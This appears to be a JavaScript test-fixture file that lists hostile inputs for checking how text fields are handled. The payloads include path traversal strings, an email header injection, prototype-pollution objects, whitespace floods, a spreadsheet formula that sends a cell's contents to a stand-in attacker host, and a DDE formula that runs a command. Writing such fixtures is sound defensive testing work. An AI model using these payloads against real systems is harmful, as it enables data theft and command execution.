/**
 * What an adversary puts into a text field: path segments, a header injection, spreadsheet
 * formulas, prototype keys (one 100 objects down) and megabytes of whitespace.
 */
const MB = 1024 * 1024;

/** `{"a": {"a": … {"__proto__": {"polluted": true}}}}`, 100 objects down. */
const DEEP_PROTO = `${'{"a": '.repeat(100)}{"__proto__": {"polluted": true}}${'}'.repeat(100)}`;

export const HOSTILE_VALUES: string[] = [
	'.',
	'..',
	'/',
	'%2e%2e',
	'?',
	'#',
	'../../apps/11',
	'Hello\r\nBcc: intruder@example.com',
	'=HYPERLINK("https://attacker.example/?leak="&A1,"Open")',
	"+1+cmd|' /C calc'!A0",
	'__proto__',
	DEEP_PROTO,
	'{"constructor": {"prototype": {"polluted": true}}}',
	`${' '.repeat(MB)}!`,
	' \t\r\n'.repeat(MB / 4),
];
